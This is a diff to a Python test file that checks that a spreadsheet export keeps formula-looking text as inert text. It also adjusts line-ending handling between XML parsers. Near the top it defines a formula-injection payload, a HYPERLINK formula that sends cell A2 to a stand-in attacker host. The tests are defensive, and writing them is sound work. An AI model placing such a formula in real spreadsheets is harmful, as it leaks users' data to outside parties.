@@ -21,8 +21,8 @@ from tests.scoping import import_workbook
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
 
 
-def assert_shown_as_text(cell, text):
-    assert cell.value == text
+def assert_shown_as_text(cell, text, same=lambda value: value):
+    assert same(cell.value) == text
     assert cell.data_type == "s"
     assert cell.quotePrefix
 
@@ -38,7 +38,8 @@ def test_the_writer_keeps_text_that_looks_like_a_formula_as_text(text):
     columns = [Column("name", "名称", value=lambda r: r["name"]), Column("amount", "金额", value=lambda r: r["amount"])]
     content = write_workbook(rows, columns, "测试").getvalue()
     sheet = load_workbook(io.BytesIO(content)).worksheets[0]
-    assert_shown_as_text(sheet["A2"], text.replace("\r", "\n"))  # XML reads a lone CR as a line feed
+    # A lone CR reads back as a line feed through the standard library's XML parser, as itself through lxml.
+    assert_shown_as_text(sheet["A2"], text.replace("\r", "\n"), same=lambda value: value.replace("\r", "\n"))
     # A negative number is a number, untouched.
     assert (sheet["B2"].value, sheet["B2"].data_type, sheet["B2"].quotePrefix) == (-5, "n", False)
     assert no_formulas(content)
